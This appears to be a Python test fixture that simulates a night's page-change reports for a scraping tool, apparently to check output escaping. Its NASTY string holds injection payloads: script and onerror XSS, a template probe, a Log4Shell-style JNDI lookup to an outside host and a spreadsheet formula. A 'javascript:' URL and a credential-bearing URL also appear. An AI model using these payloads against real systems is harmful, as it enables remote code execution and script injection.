"""A night over a few pages, as the history tells it: one of each outcome, in our own words."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from pages import LIBRARY, page
from scrape_clean import CleanedPage, compare
from scrape_clean.history.model import Outcome, PageId, Run
from scrape_clean.publish import FlaggedChange, PageReport
from scrape_clean.views.data import changes_of
from scrape_clean.views.pieces import record_of

__all__ = ["NASTY", "RUN", "STARTED", "compared", "flagged", "night", "quiet"]

STARTED = datetime(2026, 3, 9, 2, 15, 0, 125000, tzinfo=UTC)
RUN = Run(id=31, started=STARTED, finished=STARTED + timedelta(minutes=3, seconds=20), status="done", version="0.1.0")
NASTY = (
    "Boats </script><script>alert('x')</script> & <img src=x onerror=alert(2)> \"quay\" 2030 "
    '{{7*7}} ${jndi:ldap://e.org/a} =HYPERLINK("https://e.org") \u202eeb\u202c end\x07 ]]> <!-- -->'
)
"""Markup, templates, a formula, a change of direction and a control character: all of it is text."""


def compared(source: str, before: CleanedPage, after: CleanedPage, outcome: Outcome = "changed") -> PageReport:
    """What a night reports of a page that was one thing and is another."""
    found = compare(before, after)
    return PageReport(
        page=PageId(source),
        outcome=outcome,
        url=after.url or f"https://{source}.example/pages/?id=1&lang=en",
        title=after.title,
        language=after.language,
        records=len(after.records),
        problem=found.suspect,
        since=STARTED - timedelta(days=2) if found.suspect else None,
        nights=3 if found.suspect else 0,
        last_good=STARTED - timedelta(days=3 if found.suspect else 1),
        changes=changes_of(found),
        ids=tuple(f"{source}-{change.type}-{record_of(change).id}" for change in found.changes),
        folder=source,
    )


def edited() -> CleanedPage:
    """The library with a change of each type."""
    sections = {name: list(items) for name, items in LIBRARY.items()}
    sections["Reading room"][0] = "The reading room has 52 seats and opens at 10:00."
    sections["Reading room"][2] = "Pencils are allowed - ink is not."
    sections["Reading room"][3] = "Filming and photographs cost five euros since 2024, with a card from the desk only."
    sections["Courses"].append("New since May: *lino* cuts, [see here](x), and @home &lt;b&gt;prints&lt;/b&gt;.")
    sections["Courses"].insert(0, sections["Borrowing"].pop(1))
    sections["Borrowing"].pop()
    return page(sections)


def quiet(source: str, key: str = "", title: str | None = None) -> PageReport:
    """A page of which there is nothing to tell."""
    url = f"https://{source}.example/{key}"
    return PageReport(page=PageId(source, key), outcome="unchanged", url=url, title=title, records=40, folder=source)


def night(nasty: str = NASTY) -> list[PageReport]:
    """The pages of a night, in order."""
    marked = nasty.replace("&", "&amp;").replace("<", "&lt;")
    harbour = {"Quays": ["The north quay is 210 m long.", "Ferries leave every 40 minutes.", "Boats in 2029"]}
    worse = {"Quays": ["The north quay is 240 m long.", "Ferries leave every 40 minutes.", marked], "News": [marked]}
    lasting = {"since": STARTED - timedelta(days=1), "nights": 2}
    reports = [
        PageReport(page=PageId("allotments", "b"), outcome="new", url="https://a.example/b", title="Plots", records=12),
        compared("harbour", page(harbour, nasty[:8]), page(worse, marked)),
        compared("library", page(LIBRARY), edited()),
        compared("museum", page(LIBRARY, "Museum"), page({"Error": ["Please come back later."]}), "suspect"),
        PageReport(
            page=PageId("parks"),
            outcome="failed",
            url="https://anna:secret@parks.example/",
            title="Parks and gardens",
            problem="HTTP 503 after 4 tries",
            last_good=STARTED - timedelta(days=2),
            **lasting,  # type: ignore[arg-type]
        ),
        PageReport(page=PageId("pools", "old"), outcome="gone", url="javascript:alert(1)", title="Old pool"),
        *(quiet("schools", f"school-{number}", f"School {number}") for number in range(1, 9)),
    ]
    return sorted(reports, key=lambda report: report.page)


def flagged(run: Run, report: PageReport) -> Iterator[FlaggedChange]:
    """The changes of facts that one page had in one run, in the order of the page."""
    changes = report.changes.changes if report.changes else ()
    for name, change in zip(report.ids, changes, strict=True):
        if change.substantive:
            yield FlaggedChange(
                id=name,
                run=run,
                page=report.page,
                url=report.url,
                title=report.title,
                language=report.language,
                change=change,
            )
